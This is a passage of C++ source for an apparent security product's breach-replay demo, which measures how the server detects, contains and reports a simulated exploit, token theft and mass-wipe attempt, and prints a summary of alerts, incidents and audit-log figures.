    const std::string lockdown = "/api/v1/institutions/" + institutions_[0].id + "/lockdown";
    auto deadline = SteadyClock::now() + kContainmentDeadline;
    int token_status = 0;
    json state;
    std::optional<double> revoked_ms, locked_ms;
    for (;;) {
      auto since_harvest = [&] {
        return Round3(
            std::chrono::duration<double, std::milli>(SteadyClock::now() - harvest_started_)
                .count());
      };
      if (!revoked_ms) {
        RAMPART_ASSIGN_OR_RETURN(Reply r, attacker.Call("GET", "/api/v1/devices?limit=1"));
        token_status = r.status;
        if (r.status == 401) revoked_ms = since_harvest();
      }
      if (!locked_ms) {
        RAMPART_ASSIGN_OR_RETURN(state, defender.Expect(200, "GET", lockdown));
        if (state.value("locked", false)) locked_ms = since_harvest();
      }
      if ((revoked_ms && locked_ms) || SteadyClock::now() > deadline) break;
      std::this_thread::sleep_for(milliseconds(50));
    }
    figures_.containment["stolen_token"] = {
        {"id", stolen_token_id_},
        {"source_address", kAttackerAddress},
        {"status", token_status},
        {"revoked", revoked_ms.has_value()},
        {"harvest_to_revoked_seen_ms", revoked_ms ? json(*revoked_ms) : json(nullptr)}};
    figures_.containment["institution_lockdown"] = {
        {"institution_id", institutions_[0].id},
        {"locked", state.value("locked", false)},
        {"entered_by", state.contains("entered_by") ? state["entered_by"] : json(nullptr)},
        {"reason", state.contains("reason") ? state["reason"] : json(nullptr)},
        {"harvest_to_lockdown_seen_ms", locked_ms ? json(*locked_ms) : json(nullptr)}};
    // The other institution goes on as before.
    if (institutions_.size() > 1) {
      RAMPART_ASSIGN_OR_RETURN(
          json other,
          defender.Expect(200, "GET", "/api/v1/institutions/" + institutions_[1].id + "/lockdown"));
      figures_.containment["other_institution_locked"] = other.value("locked", false);
    }
    Progress(std::string("stolen token ") + (revoked_ms ? "revoked" : "still answered") + " (" +
             std::to_string(token_status) + "), " + institutions_[0].name +
             (locked_ms ? " in lockdown" : " not in lockdown"));
    return Status::Ok();
  }

  // Every device checks in at least once after the last attacker command was created, so
  // anything deliverable would have reached it.
  Status WaitForFleetAfterWipe() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    std::string after = latest_attack_command_;
    if (after.empty()) after = FormatRfc3339(SystemClock::Instance().NowSeconds());
    auto deadline = SteadyClock::now() +
                    milliseconds(static_cast<int64_t>(fleet_interval_ * 3000)) + seconds(30);
    int64_t active = 0, since = 0;
    while (SteadyClock::now() < deadline) {
      RAMPART_ASSIGN_OR_RETURN(auto devices, defender.ListAll("/api/v1/devices?status=active"));
      active = static_cast<int64_t>(devices.size());
      since = 0;
      for (const auto& d : devices) since += TimeText(d["last_seen"]) > after ? 1 : 0;
      if (since == active) break;
      std::this_thread::sleep_for(milliseconds(250));
    }
    figures_.wipe["devices_active"] = active;
    figures_.wipe["devices_checked_in_after_attempt"] = since;
    return Status::Ok();
  }

  Status StopFleet() {
    json executed = json::object(), rejected = json::object(), errors = json::object();
    int64_t executed_total = 0, checkins = 0;
    double rate = 0, p50 = 0, p99 = 0;
    for (auto& inst : institutions_) {
      if (!inst.fleet) continue;
      RAMPART_ASSIGN_OR_RETURN(int code, inst.fleet->Finish(true, seconds(30)));
      inst.fleet_summary = json::parse(inst.fleet->printed(), nullptr, false);
      if (code != 0 || !inst.fleet_summary.is_object()) {
        return Status::Internal("the simulated fleet of " + inst.name + " did not report (see " +
                                work_dir_ + "/fleet-" + inst.id + ".log)");
      }
      const json& s = inst.fleet_summary;
      for (const auto& [type, n] : s["commands_executed"].items()) {
        executed[type] = executed.value(type, int64_t{0}) + n.get<int64_t>();
        executed_total += n.get<int64_t>();
      }
      for (const auto& [why, n] : s["commands_rejected"].items()) {
        rejected[why] = rejected.value(why, int64_t{0}) + n.get<int64_t>();
      }
      for (const auto& [what, n] : s["errors"].items()) {
        errors[what] = errors.value(what, int64_t{0}) + n.get<int64_t>();
      }
      checkins += s.value("checkins", int64_t{0});
      rate += s.value("checkins_per_second", 0.0);
      if (s["checkin_latency_ms"].is_object()) {
        p50 = std::max(p50, s["checkin_latency_ms"].value("p50", 0.0));
        p99 = std::max(p99, s["checkin_latency_ms"].value("p99", 0.0));
      }
    }
    // No one but the attacker asked for any command during the replay (no policy, no admin),
    // so every command a device executed would be the attacker's.
    figures_.wipe["device_records"] = {{"commands_executed", executed},
                                       {"commands_refused", rejected},
                                       {"devices_executed_attacker_command", executed_total}};
    figures_.setup["fleet"] = {{"checkins", checkins},
                               {"checkins_per_second", Round3(rate)},
                               {"checkin_latency_p50_ms", Round3(p50)},
                               {"checkin_latency_p99_ms", Round3(p99)},
                               {"request_errors", errors}};
    return Status::Ok();
  }

  Status ReadCommandStates() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    RAMPART_ASSIGN_OR_RETURN(auto devices, defender.ListAll("/api/v1/devices"));
    std::mutex mu;
    std::map<std::string, int64_t> states;
    std::set<std::string> reached;
    int64_t others = 0;
    RAMPART_RETURN_IF_ERROR(ForEachParallel(
        endpoint_, defender_token_, devices.size(), kWorkers, [&](Session& s, size_t i) -> Status {
          std::string id = devices[i].value("id", std::string());
          RAMPART_ASSIGN_OR_RETURN(auto commands, s.ListAll("/api/v1/devices/" + id + "/commands"));
          std::lock_guard lock(mu);
          for (const auto& c : commands) {
            std::string state = c.value("state", std::string());
            if (c.value("created_by", std::string()) != stolen_token_id_) {
              ++others;
              continue;
            }
            ++states[state];
            if (kDeliveredStates.count(state) || !c["sent_at"].is_null()) reached.insert(id);
          }
          return Status::Ok();
        }));
    json sa = json::object();
    for (const auto& [k, v] : states) sa[k] = v;
    figures_.wipe["server_records"] = {{"attacker_commands_by_state", sa},
                                       {"devices_handed_attacker_command", reached.size()},
                                       {"other_commands", others}};
    return Status::Ok();
  }

  Status ReadAlerts() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    // The engine stores alerts on its own thread: wait (with a deadline) for those the events
    // of the replay call for, then take the list as it stands.
    std::set<std::string_view> expected = {kFobInjectionRule};
    if (harvest_.ids.size() >= 50) expected.insert(kBulkReadRule);
    if (figures_.wipe["attempt"]["http_statuses"].value("201", int64_t{0}) >= 10) {
      expected.insert(kWipeStormRule);
    }
    std::vector<json> alerts;
    auto deadline = SteadyClock::now() + seconds(20);
    for (;;) {
      RAMPART_ASSIGN_OR_RETURN(alerts, defender.ListAll("/api/v1/alerts"));
      size_t found = 0;
      for (auto rule : expected) {
        found += std::any_of(alerts.begin(), alerts.end(),
                             [&](const json& a) { return a.value("rule", std::string()) == rule; });
      }
      if (found == expected.size() || SteadyClock::now() > deadline) break;
      std::this_thread::sleep_for(milliseconds(100));
    }
    std::sort(alerts.begin(), alerts.end(), [](const json& a, const json& b) {
      return TimeText(a["first_seen"]) < TimeText(b["first_seen"]);
    });
    for (const auto& a : alerts) {
      figures_.alerts.push_back({{"id", a["id"]},
                                 {"rule", a["rule"]},
                                 {"title", a["title"]},
                                 {"severity", a["severity"]},
                                 {"entity", a["entity"]},
                                 {"institution_id", a["institution_id"]},
                                 {"count", a["count"]},
                                 {"first_seen", a["first_seen"]}});
    }
    return Status::Ok();
  }

  // An incident of the attack: its entity is the exploit address, the address the stolen token
  // was used from, or the stolen token itself.
  bool OfTheAttack(const json& incident) const {
    const std::string entity = incident.value("entity", std::string());
    for (const std::string& mark : {std::string("=") + kExploitAddress,
                                    std::string("=") + kAttackerAddress, "=" + stolen_token_id_}) {
      auto at = entity.find(mark);
      if (at != std::string::npos &&
          (at + mark.size() == entity.size() || entity[at + mark.size()] == ',')) {
        return true;
      }
    }
    return false;
  }

  Status WriteReport(const std::string& name, const std::string& text, std::string* path) {
    *path = reports_dir_ + "/" + name;
    std::ofstream out(*path, std::ios::binary | std::ios::trunc);
    out << text;
    out.close();
    if (!out) return Status::Internal("cannot write " + *path);
    return Status::Ok();
  }

  // The incidents of the attack as GET /api/v1/incidents/{id} computes them, once the
  // playbooks' containment shows in them (or the deadline passes), and their drafted reports
  // written to the reports folder: each kind as Markdown, the STIX bundle and the final report
  // as JSON, and the incident JSON itself.
  Status ReadIncidents() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    std::vector<json> details;
    auto deadline = SteadyClock::now() + kContainmentDeadline;
    for (;;) {
      RAMPART_ASSIGN_OR_RETURN(auto list, defender.ListAll("/api/v1/incidents"));
      details.clear();
      // Done when the exploit's incident and one of the victim institution's show containment.
      bool exploit = false, token = false;
      for (const auto& i : list) {
        if (!OfTheAttack(i)) continue;
        const std::string id = i.value("id", std::string());
        RAMPART_ASSIGN_OR_RETURN(json d, defender.Expect(200, "GET", "/api/v1/incidents/" + id));
        const std::string entity = d.value("entity", std::string());
        const bool contained = d["figures"].value("contained", false);
        exploit |= contained && entity.find(kExploitAddress) != std::string::npos;
        token |= contained && d["institution_id"] == institutions_[0].id;
        details.push_back(std::move(d));
      }
      if ((exploit && token) || SteadyClock::now() > deadline) break;
      std::this_thread::sleep_for(milliseconds(500));
    }
    // Oldest first by the first alert's millisecond; on a tie the exploit's, which came first.
    std::sort(details.begin(), details.end(), [](const json& a, const json& b) {
      auto key = [](const json& i) {
        return std::make_pair(
            i["figures"].value("detected_at_ms", int64_t{0}),
            i.value("entity", std::string()).find(kExploitAddress) == std::string::npos);
      };
      return key(a) < key(b);
    });
    std::error_code ec;
    fs::create_directories(reports_dir_, ec);
    if (ec) return Status::Internal("cannot create " + reports_dir_ + ": " + ec.message());
    for (const auto& d : details) {
      const std::string id = d.value("id", std::string());
      std::string stem;
      for (char c : id) stem += std::isalnum(static_cast<unsigned char>(c)) || c == '-' ? c : '_';
      json paths = json::object();
      std::string path;
      RAMPART_RETURN_IF_ERROR(WriteReport("incident-" + stem + ".json", d.dump(2), &path));
      paths["incident"] = path;
      for (const char* kind : kReportKinds) {
        std::vector<std::string> formats = {"md"};
        if (std::string_view(kind) == "stix") formats = {"json"};
        if (std::string_view(kind) == "final") formats = {"md", "json"};
        for (const auto& format : formats) {
          const std::string target =
              "/api/v1/incidents/" + id + "/reports/" + kind + "?format=" + format;
          RAMPART_ASSIGN_OR_RETURN(Reply r, defender.Call("GET", target));
          if (r.status != 200) {
            return Status::Internal("GET /api/v1/incidents/" + id + "/reports/" + kind +
                                    " answered " + std::to_string(r.status));
          }
          const std::string key = std::string(kind) + (formats.size() > 1 ? "." + format : "");
          RAMPART_RETURN_IF_ERROR(WriteReport(stem + "-" + kind + "." + format, r.text, &path));
          paths[key] = path;
        }
      }
      reports_written_ = true;
      const json& impact = d["impact"];
      figures_.incidents.push_back({{"id", id},
                                    {"entity", d["entity"]},
                                    {"institution_id", d["institution_id"]},
                                    {"title", d["title"]},
                                    {"severity", d["severity"]},
                                    {"state", d["state"]},
                                    {"figures", d["figures"]},
                                    {"staff_ids", impact["staff"]["staff_ids"]},
                                    {"staff_institutions", impact["staff"]["institutions"]},
                                    {"canary_reads", impact["staff"]["canary_reads"]},
                                    {"commands_refused", impact["commands"]["refused"]},
                                    {"implicated", d["implicated"]},
                                    {"reports", std::move(paths)}});
    }
    Progress(std::to_string(details.size()) + " incidents of the attack; reports in " +
             reports_dir_);
    return Status::Ok();
  }

  Status StopServer() {
    for (auto& inst : institutions_) inst.fleet.reset();
    if (!server_) return Status::Ok();
    // A graceful stop: the keeper writes a last signed checkpoint covering every record.
    RAMPART_ASSIGN_OR_RETURN(int code, server_->Finish(true, seconds(30)));
    server_.reset();
    if (code != 0) Progress("the server exited with " + std::to_string(code));
    return Status::Ok();
  }

  // The staff records the stolen token read, from the keeper's audit log: the keeper writes a
  // staff.decrypt record naming every staff id before any clear value leaves it.
  Status ReadAuditLog() {
    const std::string dir = data_dir_ + "/keeper/audit";
    RAMPART_ASSIGN_OR_RETURN(std::string key,
                             audit::ReadPublicKeyFile(dir + "/" + audit::kPublicKeyFile));
    RAMPART_ASSIGN_OR_RETURN(auto report, audit::Verify(dir, key));
    figures_.audit = {
        {"verified", report.ok}, {"records", report.records}, {"problem", report.problem}};
    std::ifstream in(dir + "/records.jsonl");
    std::set<std::string> read, canaries;
    std::map<std::string, std::set<std::string>> by_institution;
    int64_t denied = 0, first = 0, last = 0;
    for (std::string line; std::getline(in, line);) {
      auto parsed = audit::ParseRecordLine(line);
      if (!parsed.ok()) continue;
      const audit::Record& r = parsed->record;
      if (r.actor != stolen_token_id_) continue;
      if (r.action == "staff.canary_read") canaries.insert(r.target);
      if (r.action != "staff.decrypt") continue;
      if (first == 0) first = r.time;
      last = r.time;
      if (r.outcome != "success") {
        ++denied;
        continue;
      }
      json details = json::parse(r.details_json, nullptr, false);
      if (!details.is_object() || !details["staff_ids"].is_array()) continue;
      for (const auto& id : details["staff_ids"]) {
        if (!id.is_string()) continue;
        read.insert(id.get<std::string>());
        by_institution[r.institution_id].insert(id.get<std::string>());
      }
    }
    // A token bucket of `budget` per minute, full at the first read, refilled continuously.
    // Audit times are whole seconds stamped just after the keeper spent the budget, so the
    // window the bucket saw can be one second longer than the records show.
    const int64_t window = last - first;
    const int64_t allows = budget_per_minute_ + budget_per_minute_ * (window + 1) / 60;
    int64_t unrecorded = 0;
    for (const auto& id : harvest_.ids) unrecorded += read.count(id) ? 0 : 1;
    json per_inst = json::object();
    for (const auto& [inst, ids] : by_institution) per_inst[inst] = ids.size();
    figures_.staff_read["count"] = read.size();
    figures_.staff_read["ids"] = read;
    figures_.staff_read["by_institution"] = per_inst;
    int64_t elsewhere = 0;
    for (const auto& [inst, ids] : by_institution) {
      if (inst != institutions_[0].id) elsewhere += static_cast<int64_t>(ids.size());
    }
    figures_.staff_read["other_institutions"] = elsewhere;
    figures_.staff_read["canary_reads"] = canaries.size();
    figures_.staff_read["real_staff"] = read.size() - std::min(read.size(), canaries.size());
    figures_.staff_read["denied_requests"] = denied;
    figures_.staff_read["window_seconds"] = window;
    figures_.staff_read["budget_per_minute"] = budget_per_minute_;
    figures_.staff_read["budget_allows"] = allows;
    figures_.staff_read["attacker_view"]["not_in_audit_log"] = unrecorded;
    return Status::Ok();
  }

  void Cleanup() {
    for (auto& inst : institutions_) inst.fleet.reset();
    server_.reset();
    if (options_.keep || work_dir_.empty()) return;
    std::error_code ec;
    // A data directory the operator named stays: it holds the evidence of the replay. The
    // drafted reports stay too, wherever they are: the replay printed their paths.
    const fs::path reports = fs::path(reports_dir_);
    if (!reports_written_ || reports.parent_path() != fs::path(work_dir_)) {
      fs::remove_all(work_dir_, ec);
      return;
    }
    for (const auto& entry : fs::directory_iterator(work_dir_, ec)) {
      if (entry.path() != reports) fs::remove_all(entry.path(), ec);
    }
  }

  const BreachDemoOptions options_;
  SteadyClock::time_point started_;
  std::string work_dir_;
  std::string data_dir_;
  std::string bin_dir_;
  int64_t budget_per_minute_ = 0;
  std::string defender_token_;
  std::string stolen_token_;
  std::string stolen_token_id_;
  std::string reports_dir_;
  bool reports_written_ = false;
  Endpoint endpoint_;
  Endpoint exploit_endpoint_;
  Endpoint attacker_endpoint_;
  SteadyClock::time_point exploit_sent_;
  SteadyClock::time_point harvest_started_;
  std::vector<json> attacker_devices_;
  int device_list_refused_ = 0;
  std::unique_ptr<ChildProcess> server_;
  std::vector<Institution> institutions_;
  double fleet_interval_ = 10;
  Harvest harvest_;
  std::string latest_attack_command_;  // the latest created_at of the attacker's commands
  Figures figures_;
};

std::string Counts(const json& map) {
  std::string out;
  for (const auto& [k, v] : map.items()) {
    if (!out.empty()) out += ", ";
    out += k + " x" + std::to_string(v.get<int64_t>());
  }
  return out.empty() ? "none" : out;
}

std::string Fixed(const json& v, int digits = 1) {
  if (!v.is_number()) return "-";
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.*f", digits, v.get<double>());
  return buf;
}

// The summary for a person: the same figures as --json, nothing computed here.
void PrintText(const json& s, std::ostream& out) {
  const json& setup = s["setup"];
  const json& fleet = setup["fleet"];
  const json& read = s["staff_read"];
  const json& view = read["attacker_view"];
  const json& wipe = s["wipe"];
  const json& det = s["detection"];
  std::string inst_a = s["institutions"][0].value("name", std::string());
  out << "The January 30 replay: what the server recorded\n\n"
      << "Stand-up: " << s["sizes"]["institutions"] << " institutions, " << s["sizes"]["staff"]
      << " staff (+ canaries), " << s["sizes"]["devices"] << " simulated devices\n"
      << "  staff created through the API in " << Fixed(setup["staff_seconds"]) << " s\n"
      << "  devices enrolled in " << Fixed(setup["enroll_seconds"])
      << " s; as many check-ins answered as devices by " << Fixed(setup["first_checkins_seconds"])
      << " s (check-in interval " << Fixed(setup["fleet_interval_seconds"]) << " s)\n"
      << "  fleet during the replay: " << fleet["checkins"] << " check-ins, "
      << Fixed(fleet["checkins_per_second"]) << "/s, latency p50 "
      << Fixed(fleet["checkin_latency_p50_ms"]) << " ms, p99 "
      << Fixed(fleet["checkin_latency_p99_ms"]) << " ms\n\n";

  out << "1. Exploit requests shaped like CVE-2026-1281 / CVE-2026-1340 (unauthenticated)\n"
      << "  sent " << s["exploits"]["requests"].size() << ": refused (4xx) "
      << s["exploits"]["refused_4xx"] << ", answered 2xx " << s["exploits"]["answered_2xx"] << "\n";
  if (det["first_alert_id"].is_string()) {
    out << "  first alert: " << det["first_alert_title"].get<std::string>() << "\n"
        << "  time from first exploit request to that alert in GET /api/v1/alerts: "
        << Fixed(det["exploit_to_alert_visible_ms"]) << " ms\n\n";
  } else {
    out << "  no exploit alert appeared within 30 s\n";
  }
  const json& ct = s["containment"];
  const json& block = ct["exploit_address"];
  if (block.value("blocked", false)) {
    out << "  " << block["address"].get<std::string>() << " blocked at the front door ("
        << block["scenario"].get<std::string>() << ", " << block["duration_seconds"] << " s) after "
        << Fixed(block["exploit_to_block_visible_ms"]) << " ms; a new connection from it: "
        << (block.value("connection_refused", false) ? "refused" : "NOT refused")
        << " (the client's error: " << block.value("connection_outcome", std::string()) << ")\n\n";
  } else {
    out << "  the exploit address was not blocked\n\n";
  }

  out << "2. Stolen admin API token " << s["stolen_token"]["id"].get<std::string>() << " (admin of "
      << inst_a << ", " << s["stolen_token"]["decrypt_budget_per_minute"]
      << " decrypts per minute), used from "
      << ct["stolen_token"].value("source_address", std::string()) << "\n"
      << "  the harvest ended with: " << Counts(view["other_statuses"])
      << "; answers 429: " << view["refused_429"] << "\n"
      << "  staff records decrypted for it (keeper audit log): " << read["count"] << ", of which "
      << read["canary_reads"] << " canaries\n"
      << "  the budget allows " << read["budget_allows"] << " over its " << read["window_seconds"]
      << " s of reading; requests the keeper refused: " << read["denied_requests"] << "\n"
      << "  what the attacker saw: " << view["records"] << " records in clear, "
      << view["refused_429"]
      << " answers 429; records it saw that the audit log lacks: " << view["not_in_audit_log"]
      << "\n"
      << "  records of other institutions decrypted for it: " << read["other_institutions"] << "\n"
      << "  staff ids read:\n";
  int column = 0;
  for (const auto& id : read["ids"]) {
    out << (column == 0 ? "    " : " ") << id.get<std::string>();
    if (++column == 4) {
      out << "\n";
      column = 0;
    }
  }
  if (column != 0) out << "\n";
  out << "\n";

  const json& attempt = wipe["attempt"];
  const json& server = wipe["server_records"];
  const json& devices = wipe["device_records"];
  out << "3. Wipe pushed to every device of " << inst_a << " (" << attempt["devices_targeted"]
      << ")\n"
      << "  answers: " << Counts(attempt["http_statuses"])
      << "; states: " << Counts(attempt["states_when_created"])
      << "; approving its own wipe answered "
      << (attempt["self_approval_status"] == 0 ? std::string("- (no wipe was created)")
                                               : attempt["self_approval_status"].dump())
      << "\n"
      << "  server records, attacker commands by state: "
      << Counts(server["attacker_commands_by_state"])
      << "; devices handed one: " << server["devices_handed_attacker_command"] << "\n"
      << "  devices that checked in after the attempt: " << wipe["devices_checked_in_after_attempt"]
      << " of " << wipe["devices_active"] << "\n"
      << "  devices' own records, commands executed: " << Counts(devices["commands_executed"])
      << "\n"
      << "  devices that executed an attacker command: "
      << devices["devices_executed_attacker_command"] << "\n\n";

  const json& tok = ct["stolen_token"];
  const json& lock = ct["institution_lockdown"];
  out << "4. Containment by the bundled playbooks\n"
      << "  stolen token: " << (tok.value("revoked", false) ? "revoked" : "NOT revoked")
      << " (answers " << tok["status"] << "), seen " << Fixed(tok["harvest_to_revoked_seen_ms"])
      << " ms after the harvest began\n"
      << "  " << inst_a << ": " << (lock.value("locked", false) ? "in lockdown" : "NOT in lockdown")
      << ", seen " << Fixed(lock["harvest_to_lockdown_seen_ms"])
      << " ms after the harvest began; other institution in lockdown: "
      << (ct.value("other_institution_locked", false) ? "yes" : "no") << "\n\n";

  out << "5. Incidents (GET /api/v1/incidents/{id}, figures computed by the server)\n";
  for (const auto& inc : s["incidents"]) {
    const json& f = inc["figures"];
    out << "  " << inc["id"].get<std::string>() << "  " << inc["severity"].get<std::string>()
        << "  " << inc["title"].get<std::string>() << "  [" << inc["entity"].get<std::string>()
        << "]\n"
        << "    time to detect: " << MillisText(f.value("time_to_detect_ms", int64_t{-1}))
        << "; time to contain: "
        << (f.value("contained", false) ? MillisText(f.value("time_to_contain_ms", int64_t{-1}))
                                        : std::string("not contained"))
        << "\n"
        << "    staff records read: " << f["staff_records_read"] << " (" << f["staff_data_subjects"]
        << " staff); devices reached: " << f["devices_reached"] << " ("
        << f["device_verdict"].get<std::string>() << ")\n"
        << "    reports:\n";
    for (const auto& [kind, path] : inc["reports"].items()) {
      out << "      " << kind << ": " << path.get<std::string>() << "\n";
    }
  }
  if (s["incidents"].empty()) out << "  none of the attack\n";
  out << "\n";

  out << "Alerts (GET /api/v1/alerts):\n";
  for (const auto& a : s["alerts"]) {
    char line[512];
    std::snprintf(
        line, sizeof line, "  %-8s x%-5lld %s  [%s]\n", a.value("severity", std::string()).c_str(),
        static_cast<long long>(a.value("count", int64_t{0})),
        a.value("title", std::string()).c_str(), a.value("entity", std::string()).c_str());
    out << line;
  }
  out << "\nAudit log: " << s["audit"]["records"] << " records, "
      << (s["audit"].value("verified", false)
              ? "verified against its signed checkpoints"
              : "NOT verified: " + s["audit"].value("problem", std::string()))
      << "\n"
      << "Replay took " << Fixed(s["duration_seconds"]) << " s"
      << (s.contains("work_dir") ? "; logs in " + s["work_dir"].get<std::string>() : "") << "\n";
}

}  // namespace

int RunBreachDemo(const BreachDemoOptions& options) {
  if (options.staff < 2 || options.devices < 2) {
    std::cerr << "rampart demo breach: --staff and --devices must be at least 2\n";
    return 2;
  }
  BreachDemo demo(options);
  // The demo reads the server's JSON with nlohmann::json; a reply of an unexpected shape ends
  // the replay with a message here rather than escaping main().
  try {
    Status s = demo.Run();
    if (!s.ok()) {
      std::cerr << "rampart demo breach: " << s.message() << "\n";
      return 1;
    }
    json summary = demo.Summary();
    if (options.json) {
      std::cout << summary.dump(2) << std::endl;
    } else {
      PrintText(summary, std::cout);
    }
  } catch (const json::exception& e) {
    std::cerr << "rampart demo breach: unexpected reply from the server: " << e.what() << "\n";
    return 1;
  }
  return 0;
}

}  // namespace rampart::server
